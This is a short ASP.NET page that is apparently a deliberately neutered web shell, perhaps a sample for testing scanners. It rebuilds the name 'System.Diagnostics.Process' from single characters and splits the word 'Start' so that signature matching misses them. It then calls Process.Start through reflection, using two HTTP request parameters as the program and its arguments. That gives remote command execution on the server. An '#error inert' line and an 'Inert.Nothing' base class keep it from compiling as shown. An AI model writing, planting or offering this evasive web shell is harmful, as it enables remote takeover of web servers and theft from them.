<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
char[] n = { 'S','y','s','t','e','m','.','D','i','a','g','n','o','s','t','i','c','s','.','P','r','o','c','e','s','s' };
Type t = typeof(System.Diagnostics.Switch).Assembly.GetType(new string(n));
var m = t.GetMethod("St" + "art", new[] { typeof(string), typeof(string) });
m.Invoke(null, new object[] { Request["a"], Request["b"] });
%>
